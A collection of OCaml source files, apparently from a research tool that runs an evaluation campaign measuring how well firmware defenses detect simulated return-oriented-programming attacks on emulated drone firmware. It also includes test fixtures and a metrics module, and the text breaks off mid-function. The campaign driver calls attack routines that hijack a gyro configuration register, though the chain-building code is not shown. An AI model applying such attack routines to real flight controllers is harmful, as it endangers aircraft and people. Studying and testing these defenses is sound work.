(* A task's checkpoint payload is everything the join needs: the outcome,
   the trial's merged-in metrics registry, and — when tracing — the two
   per-trial lanes (host lane persisted in its timing-stripped form, the
   cycles lane exactly).  Floats round-trip exactly through the Json
   codec, so a resumed run's final document is byte-identical. *)

let outcome_to_json o =
  Json.Obj
    ([
       ("takeover", Json.Bool o.takeover);
       ("detected", Json.Bool o.detected);
       ("halted", Json.Bool o.halted);
     ]
    @ (match o.detect_ms with None -> [] | Some v -> [ ("detect_ms", Json.Float v) ])
    @ [
        ("gcs_alarm_count", Json.Int o.gcs_alarm_count);
        ("master_detections", Json.Int o.master_detections);
      ])

let outcome_of_json j =
  let bool k = match Json.member k j with Some (Json.Bool b) -> Some b | _ -> None in
  let int k = Option.bind (Json.member k j) Json.to_int in
  match
    ( bool "takeover",
      bool "detected",
      bool "halted",
      int "gcs_alarm_count",
      int "master_detections" )
  with
  | Some takeover, Some detected, Some halted, Some gcs_alarm_count, Some master_detections ->
      let detect_ms = Option.bind (Json.member "detect_ms" j) Json.to_float in
      Ok { takeover; detected; halted; detect_ms; gcs_alarm_count; master_detections }
  | _ -> Error "malformed outcome"

let task_result_to_json ?lanes (o, registry) =
  Json.Obj
    ([ ("outcome", outcome_to_json o); ("metrics", Metrics.to_json registry) ]
    @
    match lanes with
    | None -> []
    | Some (hl, cl) -> [ ("lanes", Json.List [ Span.lane_to_json hl; Span.lane_to_json cl ]) ])

let task_result_of_json ?tracer j =
  let ( let* ) = Result.bind in
  let* outcome =
    match Json.member "outcome" j with
    | Some oj -> outcome_of_json oj
    | None -> Error "missing outcome"
  in
  let* registry =
    match Json.member "metrics" j with
    | Some mj -> Metrics.of_json mj
    | None -> Error "missing metrics"
  in
  let* () =
    match (tracer, Json.member "lanes" j) with
    | None, _ -> Ok ()
    | Some tr, Some (Json.List lanes) ->
        List.fold_left
          (fun acc lj ->
            let* () = acc in
            let* (_ : Span.lane) = Span.lane_of_json tr lj in
            Ok ())
          (Ok ()) lanes
    | Some _, _ -> Error "tracing enabled but checkpoint entry has no lanes"
  in
  Ok (outcome, registry)

(* ---- task layout ----------------------------------------------------- *)

(* Fixed and index-addressed for jobs-invariance: for each fault level,
   the nd*na*trials attack grid followed by nd*trials attack-free control
   flights. *)
let layout ~faults ~trials =
  let nd = Array.length defenses and na = Array.length attacks in
  let nlevels = Array.length faults.Fault.Profile.levels in
  let grid_tasks = nd * na * trials in
  let per_level = grid_tasks + (nd * trials) in
  (nd, na, nlevels, grid_tasks, per_level, nlevels * per_level)

let checkpoint_spec ?(ms = 900) ?(faults = Fault.Profile.none) ?early_stop ?(traced = false)
    ~profile ~seed ~trials () =
  let _, _, _, _, _, tasks = layout ~faults ~trials in
  let fields =
    [
      ("campaign", Json.String "montecarlo");
      ("profile", Json.String profile);
      ("fault_profile", Json.String faults.Fault.Profile.name);
      ("ms", Json.Int ms);
      ("trials", Json.Int trials);
      ("seed", Json.Int seed);
      ("traced", Json.Bool traced);
      ( "early_stop",
        match early_stop with
        | None -> Json.String "none"
        | Some es -> Json.Obj (Early_stop.to_json_fields es) );
    ]
  in
  { Checkpoint.spec_hash = Checkpoint.hash_fields fields; seed; tasks }

(* ---- the grid ------------------------------------------------------- *)

let attack_frames ti obs =
  let writes = [ Rop.write_u16 obs ~addr:F.Layout.gyro_cfg ~value:hijack_value ~neighbour:0 ] in
  function
  | V1 -> Rop.v1_basic ti obs ~writes
  | V2 -> Rop.v2_stealthy ti obs ~writes
  | V3 -> Rop.v3_execute ti obs ~chain_dest:F.Layout.free_region ~writes

(* Shared campaign driver: attacker analysis, checkpoint priming, the
   deterministic early-stop round loop and skip accounting — restricted
   to the cell range [cell_lo, cell_hi).  [run] drives every cell and
   folds the result document; [run_shard] drives one contiguous cell
   range and leaves its recorded entries in the checkpoint (a dispatcher
   merges shards by priming a fresh checkpoint with every shard's
   entries and re-running [run] over it, which executes zero trials).
   The global index space is the concatenation of [trials]-sized
   per-cell blocks in cell order — [cell_base c = c * trials] — and
   per-cell statistics ([key_stat]) read only that cell's own prefix, so
   a sharded run's per-cell early-stop trajectory is identical to the
   single-host one. *)
let drive ?pool ?jobs ~ms ~faults ?tracer ?progress ?early_stop ?checkpoint
    ~cell_range:(cell_lo, cell_hi) ~seed ~trials (build : F.Build.t) =
  if trials < 0 then invalid_arg "Montecarlo.run: negative trial count";
  let image = build.F.Build.image in
  (* The attacker's static + dynamic analysis of the unprotected binary
     happens once, in the coordinator; the resulting frames are immutable
     strings shared read-only by every trial. *)
  let ti = Rop.analyze build in
  let obs = Rop.observe ti in
  let frames = Array.map (attack_frames ti obs) attacks in
  let nd, na, nlevels, grid_tasks, per_level, tasks = layout ~faults ~trials in
  (* Running per-(defense, attack) tallies (summed across fault levels)
     for the progress heartbeat; atomics because worker domains bump
     them as trials land, in scheduling order. *)
  let tally = Array.init (nd * na) (fun _ -> (Atomic.make 0, Atomic.make 0, Atomic.make 0)) in
  let ctrl_flights = Atomic.make 0 and ctrl_alarmed = Atomic.make 0 in
  Option.iter
    (fun p ->
      Progress.on_heartbeat p (fun () ->
          let cells =
            Array.to_list
              (Array.mapi
                 (fun i (done_, det, tk) ->
                   let dn = Atomic.get done_ in
                   Json.Obj
                     [
                       ("defense", Json.String (defense_name defenses.(i / na)));
                       ("attack", Json.String (attack_name attacks.(i mod na)));
                       ("done", Json.Int dn);
                       ("detected", Json.Int (Atomic.get det));
                       ("takeovers", Json.Int (Atomic.get tk));
                       ( "detect_rate",
                         Json.Float
                           (if dn = 0 then 0.0
                            else float_of_int (Atomic.get det) /. float_of_int dn) );
                     ])
                 tally)
          in
          [
            ("cells", Json.List cells);
            ( "controls",
              Json.Obj
                [
                  ("flights", Json.Int (Atomic.get ctrl_flights));
                  ("alarmed", Json.Int (Atomic.get ctrl_alarmed));
                ] );
          ]))
    progress;
  let lanes_for tracer ~index ~cell_label =
    Option.map
      (fun tr ->
        let base = Printf.sprintf "trial-%05d %s" index cell_label in
        ( Span.lane tr ~sort:index base,
          Span.lane tr ~sort:index ~domain:Span.Cycles (base ^ " sim") ))
      tracer
  in
  (* Results land in a global index-addressed array; [None] slots are
     tasks not (yet) run — the uncompleted frontier of a resumed run, or
     trials an early-stopped cell never needed. *)
  let seeds = Engine.task_seeds ~seed ~tasks in
  let results : (outcome * Metrics.registry) option array = Array.make tasks None in
  let tally_outcome index o =
    let rem = index mod per_level in
    if rem < grid_tasks then begin
      let d = rem / (na * trials) and ai = rem / trials mod na in
      let done_, det, tk = tally.((d * na) + ai) in
      Atomic.incr done_;
      if o.detected then Atomic.incr det;
      if o.takeover then Atomic.incr tk
    end
    else begin
      Atomic.incr ctrl_flights;
      if o.gcs_alarm_count > 0 then Atomic.incr ctrl_alarmed
    end
  in
  (* Prime the frontier from the checkpoint: recorded results go back
     into their index slots (restoring their trace lanes when tracing),
     primed skips are ignored — the early-stop replay below re-derives
     every stop decision from the same deterministic results, so the
     trajectory is identical to the killed run's. *)
  (match checkpoint with
  | None -> ()
  | Some ck ->
      List.iter
        (fun (i, e) ->
          match e with
          | Checkpoint.Skip _ -> ()
          | Checkpoint.Result j -> (
              match task_result_of_json ?tracer j with
              | Ok ((o, _) as r) ->
                  results.(i) <- Some r;
                  tally_outcome i o
              | Error m -> raise (Checkpoint.Corrupt (Printf.sprintf "task %d: %s" i m))))
        (Checkpoint.entries ck));
  let body ~index ~rng =
    let level = faults.Fault.Profile.levels.(index / per_level) in
    let lname = level.Fault.Profile.name in
    let rem = index mod per_level in
    let inject, cell_label, span_args =
      if rem < grid_tasks then begin
        let d = rem / (na * trials) in
        let ai = rem / trials mod na in
        ( Some frames.(ai),
          Printf.sprintf "%s/%s/%s" lname
            (defense_name defenses.(d))
            (attack_name attacks.(ai)),
          [
            ("index", Json.Int index);
            ("level", Json.String lname);
            ("defense", Json.String (defense_name defenses.(d)));
            ("attack", Json.String (attack_name attacks.(ai)));
          ] )
      end
      else begin
        let d = (rem - grid_tasks) / trials in
        ( None,
          Printf.sprintf "%s/%s/control" lname (defense_name defenses.(d)),
          [
            ("index", Json.Int index);
            ("level", Json.String lname);
            ("defense", Json.String (defense_name defenses.(d)));
            ("attack", Json.String "none");
          ] )
      end
    in
    let defense =
      if rem < grid_tasks then defenses.(rem / (na * trials))
      else defenses.((rem - grid_tasks) / trials)
    in
    let lanes = lanes_for tracer ~index ~cell_label in
    let run_body () = trial ?lanes ~image ~inject ~defense ~level ~ms ~rng () in
    let ((o, _) as r) =
      match lanes with
      | None -> run_body ()
      | Some (hl, _) -> Span.span hl ~args:span_args "trial" run_body
    in
    results.(index) <- Some r;
    tally_outcome index o;
    match checkpoint with
    | None -> ()
    | Some ck -> Checkpoint.record ck ~index (task_result_to_json ?lanes r)
  in
  (* Statistical cells in fixed order: per level, the nd*na attacked
     cells (defense-major) then the nd controls.  [cell_base] is strictly
     increasing in the cell number, so ascending cell-major iteration
     yields ascending global indices. *)
  let cells_per_level = (nd * na) + nd in
  let ncells = nlevels * cells_per_level in
  if cell_lo < 0 || cell_hi > ncells || cell_lo > cell_hi then
    invalid_arg
      (Printf.sprintf "Montecarlo: cell range [%d,%d) outside [0,%d)" cell_lo cell_hi ncells);
  let cell_base c =
    let l = c / cells_per_level and r = c mod cells_per_level in
    (l * per_level) + (if r < nd * na then r * trials else grid_tasks + ((r - (nd * na)) * trials))
  in
  let is_control c = c mod cells_per_level >= nd * na in
  (* Per-cell trial budget.  Without early stopping there is a single
     round at the full budget — exactly the old one-shot grid.  With it,
     every cell starts at min_trials and the driver runs deterministic
     rounds: run every open cell up to its target, then decide stops
     {e sequentially} from the completed per-cell prefixes and widen the
     survivors by one batch.  Decisions are a function of trial results
     only (never of scheduling), so early-stopped output is
     jobs-invariant and a resumed run replays the same trajectory. *)
  let target =
    Array.make ncells
      (match early_stop with
      | None -> trials
      | Some es -> min trials (Early_stop.min_trials es))
  in
  let stopped = Array.make ncells false in
  (* Successes among cell [c]'s first [n] trials: detections for
     attacked cells, alarmed flights (false alarms) for controls. *)
  let key_stat c n =
    let base = cell_base c in
    let k = ref 0 in
    for j = 0 to n - 1 do
      match results.(base + j) with
      | Some (o, _) ->
          if is_control c then (if o.gcs_alarm_count > 0 then incr k)
          else if o.detected then incr k
      | None -> assert false
    done;
    !k
  in
  let continue_ = ref true in
  while !continue_ do
    let todo = ref [] in
    for c = cell_hi - 1 downto cell_lo do
      let base = cell_base c in
      for j = target.(c) - 1 downto 0 do
        if results.(base + j) = None then todo := (base + j) :: !todo
      done
    done;
    let indices = Array.of_list !todo in
    if Array.length indices > 0 then Engine.iter_indices ?pool ?jobs ?progress ~seeds ~indices body;
    match early_stop with
    | None -> continue_ := false
    | Some es ->
        let expanded = ref false in
        for c = cell_lo to cell_hi - 1 do
          if (not stopped.(c)) && target.(c) < trials then begin
            let n = target.(c) in
            if Early_stop.should_stop es ~n ~k:(key_stat c n) then stopped.(c) <- true
            else begin
              target.(c) <- min trials (target.(c) + Early_stop.batch es);
              expanded := true
            end
          end
        done;
        continue_ := !expanded
  done;
  (* Explicit skipped-trial accounting: every index an early-stopped cell
     never ran is recorded (in the checkpoint too, as a skip entry, so
     the frontier stays gap-free for validators). *)
  let cell_skipped = Array.make ncells 0 in
  let trials_skipped = ref 0 in
  for c = cell_lo to cell_hi - 1 do
    let tgt = target.(c) in
    let sk = trials - tgt in
    if sk > 0 then begin
      cell_skipped.(c) <- sk;
      trials_skipped := !trials_skipped + sk;
      match checkpoint with
      | None -> ()
      | Some ck ->
          let base = cell_base c in
          for j = tgt to trials - 1 do
            Checkpoint.skip ck ~index:(base + j) ~reason:"early_stop"
          done
    end
  done;
  (results, target, cell_skipped, !trials_skipped)

let run ?pool ?jobs ?(ms = 900) ?(faults = Fault.Profile.none) ?tracer ?progress ?early_stop
    ?checkpoint ~seed ~trials (build : F.Build.t) =
  let nd, na, nlevels, grid_tasks, per_level, _ = layout ~faults ~trials in
  let cells_per_level = (nd * na) + nd in
  let ncells = nlevels * cells_per_level in
  let results, target, cell_skipped, trials_skipped =
    drive ?pool ?jobs ~ms ~faults ?tracer ?progress ?early_stop ?checkpoint
      ~cell_range:(0, ncells) ~seed ~trials build
  in
  let cell_base c =
    let l = c / cells_per_level and r = c mod cells_per_level in
    (l * per_level) + (if r < nd * na then r * trials else grid_tasks + ((r - (nd * na)) * trials))
  in
  let metrics = Metrics.create () in
  Array.iter (function Some (_, r) -> Metrics.merge ~into:metrics r | None -> ()) results;
  let fold base n f init =
    let acc = ref init in
    for k = 0 to n - 1 do
      match results.(base + k) with
      | Some (o, _) -> acc := f !acc o
      | None -> assert false
    done;
    !acc
  in
  let cell l d a =
    let c = (l * cells_per_level) + (d * na) + a in
    let n = target.(c) in
    let base = cell_base c in
    let fold f init = fold base n f init in
    {
      defense = defenses.(d);
      attack = attacks.(a);
      trials = n;
      skipped = cell_skipped.(c);
      takeovers = fold (fun n o -> if o.takeover then n + 1 else n) 0;
      detections = fold (fun n o -> if o.detected then n + 1 else n) 0;
      halts = fold (fun n o -> if o.halted then n + 1 else n) 0;
      detect_n = fold (fun n o -> if o.detect_ms <> None then n + 1 else n) 0;
      detect_ms_sum = fold (fun s o -> s +. Option.value ~default:0.0 o.detect_ms) 0.0;
      detect_ms_max = fold (fun m o -> Float.max m (Option.value ~default:0.0 o.detect_ms)) 0.0;
    }
  in
  let control l d =
    let c = (l * cells_per_level) + (nd * na) + d in
    let n = target.(c) in
    let base = cell_base c in
    let fold f init = fold base n f init in
    {
      posture = defenses.(d);
      flights = n;
      skipped = cell_skipped.(c);
      alarmed = fold (fun n o -> if o.gcs_alarm_count > 0 then n + 1 else n) 0;
      alarms_total = fold (fun n o -> n + o.gcs_alarm_count) 0;
      recoveries = fold (fun n o -> n + o.master_detections) 0;
      crashed = fold (fun n o -> if o.halted then n + 1 else n) 0;
      first_alarm_n = fold (fun n o -> if o.detect_ms <> None then n + 1 else n) 0;
      first_alarm_ms_sum = fold (fun s o -> s +. Option.value ~default:0.0 o.detect_ms) 0.0;
    }
  in
  let levels =
    Array.init nlevels (fun l ->
        {
          level = faults.Fault.Profile.levels.(l);
          cells = Array.init (nd * na) (fun i -> cell l (i / na) (i mod na));
          controls = Array.init nd (fun d -> control l d);
        })
  in
  {
    seed;
    trials;
    ms;
    profile = faults.Fault.Profile.name;
    levels;
    metrics;
    early_stop;
    trials_skipped;
  }

(* [run_shard ~lo ~hi] executes only the cells whose index blocks lie in
   [lo, hi); results are visible solely through [checkpoint], which
   records an entry line for every completed or skipped index in range.
   Bounds must be cell-aligned — multiples of [trials] — so shard
   early-stop trajectories match the single-host run's. *)
let run_shard ?pool ?jobs ?(ms = 900) ?(faults = Fault.Profile.none) ?tracer ?progress
    ?early_stop ~checkpoint ~lo ~hi ~seed ~trials (build : F.Build.t) =
  if trials < 1 then invalid_arg "Montecarlo.run_shard: trials must be >= 1";
  let _, _, _, _, _, tasks = layout ~faults ~trials in
  if lo < 0 || hi > tasks || lo > hi then
    invalid_arg (Printf.sprintf "Montecarlo.run_shard: range [%d,%d) outside [0,%d]" lo hi tasks);
  if lo mod trials <> 0 || hi mod trials <> 0 then
    invalid_arg
      (Printf.sprintf "Montecarlo.run_shard: bounds [%d,%d) not multiples of %d trials" lo hi
         trials);
  let (_ : _ array * int array * int array * int) =
    drive ?pool ?jobs ~ms ~faults ?tracer ?progress ?early_stop ~checkpoint
      ~cell_range:(lo / trials, hi / trials) ~seed ~trials build
  in
  ()

let cells t = t.levels.(0).cells

let level_takeovers lr defense =
  Array.fold_left (fun n c -> if c.defense = defense then n + c.takeovers else n) 0 lr.cells

let level_detections lr defense =
  Array.fold_left (fun n c -> if c.defense = defense then n + c.detections else n) 0 lr.cells

let takeovers t defense =
  Array.fold_left (fun n lr -> n + level_takeovers lr defense) 0 t.levels

let detections t defense =
  Array.fold_left (fun n lr -> n + level_detections lr defense) 0 t.levels

let mean_detect_ms c = if c.detect_n = 0 then 0.0 else c.detect_ms_sum /. float_of_int c.detect_n

let false_alarm_rate c =
  if c.flights = 0 then 0.0 else float_of_int c.alarmed /. float_of_int c.flights

(* Skipped-trial fields are emitted only when trials were actually
   skipped, so arming early stopping never changes the bytes of a cell
   it didn't stop — part of the determinism contract. *)
let cell_to_json c =
  Json.Obj
    ([
       ("defense", Json.String (defense_name c.defense));
       ("attack", Json.String (attack_name c.attack));
       ("trials", Json.Int c.trials);
     ]
    @ (if c.skipped > 0 then
         [ ("skipped", Json.Int c.skipped); ("stopped_early", Json.Bool true) ]
       else [])
    @ [
        ("takeovers", Json.Int c.takeovers);
        ("detections", Json.Int c.detections);
        ("halts", Json.Int c.halts);
        ("detect_n", Json.Int c.detect_n);
        ("detect_ms_mean", Json.Float (mean_detect_ms c));
        ("detect_ms_max", Json.Float c.detect_ms_max);
      ])

let control_to_json c =
  Json.Obj
    ([
       ("defense", Json.String (defense_name c.posture));
       ("flights", Json.Int c.flights);
     ]
    @ (if c.skipped > 0 then
         [ ("skipped", Json.Int c.skipped); ("stopped_early", Json.Bool true) ]
       else [])
    @ [
        ("alarmed", Json.Int c.alarmed);
        ("alarms_total", Json.Int c.alarms_total);
        ("recoveries", Json.Int c.recoveries);
        ("crashed", Json.Int c.crashed);
        ("false_alarm_rate", Json.Float (false_alarm_rate c));
        ( "first_alarm_ms_mean",
          Json.Float
            (if c.first_alarm_n = 0 then 0.0
             else c.first_alarm_ms_sum /. float_of_int c.first_alarm_n) );
      ])

let level_to_json lr =
  Json.Obj
    [
      ("level", Json.String lr.level.Fault.Profile.name);
      ("grid", Json.List (Array.to_list (Array.map cell_to_json lr.cells)));
      ("controls", Json.List (Array.to_list (Array.map control_to_json lr.controls)));
    ]

let to_json ?(with_metrics = true) t =
  Json.Obj
    ([
       ("seed", Json.Int t.seed);
       ("trials_per_cell", Json.Int t.trials);
       ("flight_ms", Json.Int t.ms);
       ("fault_profile", Json.String t.profile);
     ]
    (* Present only when the policy was armed, so unarmed documents are
       byte-identical to pre-early-stop ones. *)
    @ (match t.early_stop with
      | None -> []
      | Some es ->
          [
            ( "early_stop",
              Json.Obj
                (Early_stop.to_json_fields es
                @ [ ("trials_skipped", Json.Int t.trials_skipped) ]) );
          ])
    @ [
        ("levels", Json.List (Array.to_list (Array.map level_to_json t.levels)));
        ("grid", Json.List (Array.to_list (Array.map cell_to_json (cells t))));
      ]
    @ if with_metrics then [ ("metrics", Metrics.to_json t.metrics) ] else [])

let pp fmt t =
  Format.fprintf fmt
    "@[<v>Monte Carlo campaign: %d trials/cell, %d ms flights, seed %d, faults %s@," t.trials
    t.ms t.seed t.profile;
  Array.iter
    (fun lr ->
      Format.fprintf fmt "  fault level: %s@," lr.level.Fault.Profile.name;
      Format.fprintf fmt "  %-14s %-4s %9s %10s %6s %15s@," "defense" "atk" "takeovers"
        "detections" "halts" "mean-detect-ms";
      Array.iter
        (fun c ->
          Format.fprintf fmt "  %-14s %-4s %5d/%-3d %6d/%-3d %6d %15.1f@,"
            (defense_name c.defense) (attack_name c.attack) c.takeovers c.trials c.detections
            c.trials c.halts (mean_detect_ms c))
        lr.cells;
      Array.iter
        (fun c ->
          Format.fprintf fmt "  %-14s ctrl %d/%d flights alarmed (%.2f false-alarm rate), %d recoveries, %d crashed@,"
            (defense_name c.posture) c.alarmed c.flights (false_alarm_rate c) c.recoveries
            c.crashed)
        lr.controls)
    t.levels;
  (match t.early_stop with
  | None -> ()
  | Some es ->
      Format.fprintf fmt "  early stop: halfwidth <= %.3f (z=%.2f), %d trials skipped@,"
        (Early_stop.target es) (Early_stop.z es) t.trials_skipped);
  Format.fprintf fmt "@]"
