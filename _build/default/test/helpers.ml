(* Shared fixtures for the test suites.  Firmware builds are cached so
   the many suites that need an image do not re-run code generation. *)

module Cpu = Mavr_avr.Cpu
module Io = Mavr_avr.Device.Io
module Image = Mavr_obj.Image

let tiny_profile = Mavr_firmware.Profile.tiny ~n:120 ~seed:99

let tiny_mavr =
  lazy (Mavr_firmware.Build.build tiny_profile Mavr_firmware.Profile.mavr)

let tiny_stock =
  lazy (Mavr_firmware.Build.build tiny_profile Mavr_firmware.Profile.stock)

let tiny_patched =
  lazy (Mavr_firmware.Build.build tiny_profile Mavr_firmware.Profile.patched)

let build_mavr () = Lazy.force tiny_mavr
let build_stock () = Lazy.force tiny_stock
let build_patched () = Lazy.force tiny_patched

(* Boot an image and run past startup. *)
let boot ?(gyro = 0x1234) (image : Image.t) =
  let cpu = Cpu.create () in
  Cpu.load_program cpu image.code;
  Cpu.io_poke cpu Io.gyro_lo (gyro land 0xFF);
  Cpu.io_poke cpu Io.gyro_hi ((gyro lsr 8) land 0xFF);
  ignore (Cpu.run cpu ~max_cycles:60_000);
  cpu

let attack_target () =
  let b = build_mavr () in
  let ti = Mavr_core.Rop.analyze b in
  let obs = Mavr_core.Rop.observe ti in
  (b, ti, obs)

let assert_ok = function
  | Ok () -> ()
  | Error m -> Alcotest.failf "expected Ok, got Error %S" m

let run_result_to_string = function
  | `Halted h -> Format.asprintf "halt(%a)" Cpu.pp_halt h
  | `Budget_exhausted -> "running"

(* Collect parsed telemetry after running for a cycle budget. *)
let telemetry cpu ~cycles =
  ignore (Cpu.uart_take_tx cpu);
  let r = Cpu.run cpu ~max_cycles:cycles in
  let parser = Mavr_mavlink.Parser.create () in
  let frames = Mavr_mavlink.Parser.feed parser (Cpu.uart_take_tx cpu) in
  (r, frames, Mavr_mavlink.Parser.stats parser)

let qtest = QCheck_alcotest.to_alcotest
