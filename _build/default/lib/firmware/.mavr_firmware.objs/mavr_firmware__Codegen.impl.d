lib/firmware/codegen.ml: Layout List Mavr_asm Mavr_avr Mavr_prng Printf Profile
