(** Instruction decoder: AVR machine words back to {!Isa.t}.

    [decode] is the exact inverse of {!Opcode.encode} on the implemented
    subset; any word outside that subset decodes to [Isa.Data] so that a
    linear sweep never fails (the randomizer and the gadget scanner both
    rely on total decoding). *)

(** [decode w1 w2] decodes the instruction starting with program word [w1];
    [w2] is the following program word, consumed only by two-word
    instructions ([call]/[jmp]/[lds]/[sts]).  Returns the instruction and
    its size in words (1 or 2). *)
val decode : int -> int -> Isa.t * int

(** [decode_bytes code pos] decodes at byte offset [pos] (must be even) of
    [code].  A truncated two-word instruction at the very end decodes as
    [Data].  Returns the instruction and its size in {e bytes}. *)
val decode_bytes : string -> int -> Isa.t * int

(** [fold_program code ~pos ~len f acc] linear-sweeps [len] bytes of
    [code] starting at byte offset [pos], folding [f acc byte_addr instr]
    over each decoded instruction. *)
val fold_program : string -> pos:int -> len:int -> ('a -> int -> Isa.t -> 'a) -> 'a -> 'a
