lib/firmware/layout.ml:
