type counter = { mutable c : int }
type gauge = { mutable g : int }

type histogram = {
  mutable n : int;
  mutable sum : int;
  mutable hmin : int;
  mutable hmax : int;
}

type metric =
  | Counter of counter
  | Gauge of gauge
  | Histogram of histogram
  | Sampled of (unit -> int)
  | Sampled_counter of (unit -> int)

type registry = { tbl : (string, metric) Hashtbl.t; mutable emit_seq : int }

let create () = { tbl = Hashtbl.create 64; emit_seq = 0 }

let kind_name = function
  | Counter _ -> "counter"
  | Gauge _ -> "gauge"
  | Histogram _ -> "histogram"
  | Sampled _ -> "sampled"
  | Sampled_counter _ -> "sampled counter"

(* Registration is idempotent per (name, kind): asking for an existing
   metric returns the same cell, so independent subsystems can share a
   name without double-counting; re-registering under a different kind is
   a programming error and refuses loudly. *)
let register t name make match_existing =
  match Hashtbl.find_opt t.tbl name with
  | Some m -> (
      match match_existing m with
      | Some x -> x
      | None ->
          invalid_arg
            (Printf.sprintf "Telemetry.Metrics: %S already registered as a %s" name (kind_name m)))
  | None ->
      let x, m = make () in
      Hashtbl.add t.tbl name m;
      x

let counter t name =
  register t name
    (fun () ->
      let c = { c = 0 } in
      (c, Counter c))
    (function Counter c -> Some c | _ -> None)

let gauge t name =
  register t name
    (fun () ->
      let g = { g = 0 } in
      (g, Gauge g))
    (function Gauge g -> Some g | _ -> None)

let histogram t name =
  register t name
    (fun () ->
      let h = { n = 0; sum = 0; hmin = max_int; hmax = min_int } in
      (h, Histogram h))
    (function Histogram h -> Some h | _ -> None)

let sampled t name f =
  register t name
    (fun () -> ((), Sampled f))
    (function Sampled _ -> Some () | _ -> None)

let sampled_counter t name f =
  register t name
    (fun () -> ((), Sampled_counter f))
    (function Sampled_counter _ -> Some () | _ -> None)

let incr c = c.c <- c.c + 1
let add c n = c.c <- c.c + n
let value c = c.c
let set g v = g.g <- v
let gauge_value g = g.g
let set_max g v = if v > g.g then g.g <- v
let set_min g v = if v < g.g then g.g <- v

let observe h v =
  h.n <- h.n + 1;
  h.sum <- h.sum + v;
  if v < h.hmin then h.hmin <- v;
  if v > h.hmax then h.hmax <- v

(* ---- snapshots ------------------------------------------------------ *)

type histogram_stats = { count : int; sum : int; min : int; max : int; mean : float }

type value_snapshot =
  | Counter_value of int
  | Gauge_value of int
  | Histogram_value of histogram_stats

let histogram_stats h =
  {
    count = h.n;
    sum = h.sum;
    min = (if h.n = 0 then 0 else h.hmin);
    max = (if h.n = 0 then 0 else h.hmax);
    mean = (if h.n = 0 then 0.0 else float_of_int h.sum /. float_of_int h.n);
  }

let snapshot t =
  Hashtbl.fold
    (fun name m acc ->
      let v =
        match m with
        | Counter c -> Counter_value c.c
        | Gauge g -> Gauge_value g.g
        | Sampled f -> Gauge_value (f ())
        | Sampled_counter f -> Counter_value (f ())
        | Histogram h -> Histogram_value (histogram_stats h)
      in
      (name, v) :: acc)
    t.tbl []
  |> List.sort (fun (a, _) (b, _) -> compare a b)

let reset t =
  Hashtbl.iter
    (fun _ m ->
      match m with
      | Counter c -> c.c <- 0
      | Gauge g -> g.g <- 0
      | Histogram h ->
          h.n <- 0;
          h.sum <- 0;
          h.hmin <- max_int;
          h.hmax <- min_int
      | Sampled _ | Sampled_counter _ ->
          () (* reflect live state elsewhere; nothing to reset *))
    t.tbl

(* ---- merge ---------------------------------------------------------- *)

(* Combine per-worker registries at a campaign join.  Each operation is a
   commutative monoid (sum / max / pointwise histogram union), so the
   merged registry is independent of join order — the determinism
   argument for parallel campaigns.  A [Sampled] source is materialized
   once, at merge time, into a plain gauge: the sampler closure belongs
   to the worker's rig, which is quiescent by the time its registry is
   merged, and the destination must own its value outright. *)
let merge ~into src =
  Hashtbl.iter
    (fun name m ->
      let m =
        match m with
        | Sampled f -> Gauge { g = f () }
        | Sampled_counter f -> Counter { c = f () }
        | m -> m
      in
      match (Hashtbl.find_opt into.tbl name, m) with
      | None, Counter c -> Hashtbl.add into.tbl name (Counter { c = c.c })
      | None, Gauge g -> Hashtbl.add into.tbl name (Gauge { g = g.g })
      | None, Histogram h ->
          Hashtbl.add into.tbl name (Histogram { n = h.n; sum = h.sum; hmin = h.hmin; hmax = h.hmax })
      | Some (Counter d), Counter c -> d.c <- d.c + c.c
      | Some (Gauge d), Gauge g -> if g.g > d.g then d.g <- g.g
      | Some (Histogram d), Histogram h ->
          d.n <- d.n + h.n;
          d.sum <- d.sum + h.sum;
          if h.hmin < d.hmin then d.hmin <- h.hmin;
          if h.hmax > d.hmax then d.hmax <- h.hmax
      | Some (Sampled _ | Sampled_counter _), _ ->
          invalid_arg
            (Printf.sprintf
               "Telemetry.Metrics.merge: %S is a sampled metric in the destination (pull cells \
                cannot absorb merged values)"
               name)
      | Some existing, incoming ->
          invalid_arg
            (Printf.sprintf "Telemetry.Metrics.merge: %S is a %s here but a %s in the source"
               name (kind_name existing) (kind_name incoming))
      | _, (Sampled _ | Sampled_counter _) -> assert false)
    src.tbl

(* ---- export --------------------------------------------------------- *)

let value_to_json = function
  | Counter_value v -> Json.Obj [ ("type", Json.String "counter"); ("value", Json.Int v) ]
  | Gauge_value v -> Json.Obj [ ("type", Json.String "gauge"); ("value", Json.Int v) ]
  | Histogram_value s ->
      Json.Obj
        [
          ("type", Json.String "histogram");
          ("count", Json.Int s.count);
          ("sum", Json.Int s.sum);
          ("min", Json.Int s.min);
          ("max", Json.Int s.max);
          ("mean", Json.Float s.mean);
        ]

let to_json t = Json.Obj (List.map (fun (name, v) -> (name, value_to_json v)) (snapshot t))

(* Each emitted line carries a registry-monotonic [seq] (never reset, so
   a consumer tailing successive snapshots can detect dropped or
   reordered lines) and the emulated-cycle stamp of the emission. *)
let to_jsonl ?(cycle = 0) t =
  let b = Buffer.create 256 in
  List.iter
    (fun (name, v) ->
      let fields =
        match value_to_json v with Json.Obj kvs -> kvs | _ -> assert false
      in
      t.emit_seq <- t.emit_seq + 1;
      Buffer.add_string b
        (Json.to_string
           (Json.Obj
              (("name", Json.String name)
              :: ("seq", Json.Int t.emit_seq)
              :: ("cycle", Json.Int cycle)
              :: fields)));
      Buffer.add_char b '\n')
    (snapshot t);
  Buffer.contents b

let value_of_json j =
  let ( let* ) = Option.bind in
  let* ty = Option.bind (Json.member "type" j) Json.to_str in
  match ty with
  | "counter" ->
      let* v = Option.bind (Json.member "value" j) Json.to_int in
      Some (Counter_value v)
  | "gauge" ->
      let* v = Option.bind (Json.member "value" j) Json.to_int in
      Some (Gauge_value v)
  | "histogram" ->
      let* count = Option.bind (Json.member "count" j) Json.to_int in
      let* sum = Option.bind (Json.member "sum" j) Json.to_int in
      let* min = Option.bind (Json.member "min" j) Json.to_int in
      let* max = Option.bind (Json.member "max" j) Json.to_int in
      let* mean = Option.bind (Json.member "mean" j) Json.to_float in
      Some (Histogram_value { count; sum; min; max; mean })
  | _ -> None

(* Rebuild an owned registry from a [to_json] document.  Every cell comes
   back owned (sampled cells were materialized by the snapshot that
   produced the document), so the round-trip [to_json (of_json (to_json t))]
   is byte-identical and the result can keep merging.  An empty histogram
   (count = 0) must restore the empty sentinel — a later pointwise merge
   would otherwise widen min/max toward the 0/0 placeholder. *)
let of_json j =
  match j with
  | Json.Obj kvs ->
